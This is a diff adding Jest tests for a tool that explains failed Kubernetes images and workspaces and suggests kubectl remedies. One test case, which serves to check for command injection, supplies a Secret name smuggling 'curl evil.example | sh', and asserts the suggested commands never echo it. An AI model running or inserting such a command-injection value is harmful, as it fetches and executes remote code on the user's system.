@@ -206,6 +206,41 @@ test('why and wait report what holds a deleted image, and why reports what would
   expect(progressOf(held)).toMatchObject({ phase: 'Terminating', message: 'UsedByMachines.' });
 });
 
+test('an object on OpenStack gets no remedy of an image', () => {
+  const server = aKupenStackMachine({
+    status: { phase: 'Failed', message: 'Nova: not found.', conditions: [condition('Ready', 'False', 'NotFound')] },
+  });
+  expect(JSON.stringify(whyOf(server, knownOf({ parts: [] })))).not.toMatch(/vmdi|retry|Upload/);
+});
+
+test('a component of a workspace gets the remedy of its reason', () => {
+  const { status } = workspace;
+  const components = [
+    { kind: 'Volume', name: 'data', phase: 'Failed', reason: 'NoStorageClass', message: 'None.' },
+  ] as const;
+  const { help, commands } = whyOf(
+    { ...workspace, status: { ...status, components: [...components] } } as typeof workspace,
+    knownOf(),
+  );
+  expect([help, ...commands]).toEqual([expect.stringContaining('Name a StorageClass'), 'kubectl get storageclasses']);
+});
+
+test.each([
+  ['names no Secret', {}, 'the image names no Secret'],
+  [
+    'names one that a shell would run',
+    { secretRef: 'x; curl evil.example | sh #' },
+    'kubectl describe secret SECRET -n',
+  ],
+])('an image that may not be read and %s', (_, spec, advice) => {
+  const image = failed('SourceForbidden');
+  const { secretRef: _none, ...rest } = image.spec;
+  const { help, commands } = whyOf({ ...image, spec: { ...rest, ...spec } }, knownOf());
+  const found = [help, ...commands].join();
+  expect(found).toContain(advice);
+  expect(found).not.toContain('evil');
+});
+
 test('an image that waits for another of the same content is followed to that', () => {
   const source = { bytes: 1, content: 'same', inspectedAt: at(0), queuedAt: at(0) };
   const of = (name: string, phase: 'Queued' | 'Syncing', content = 'same') =>
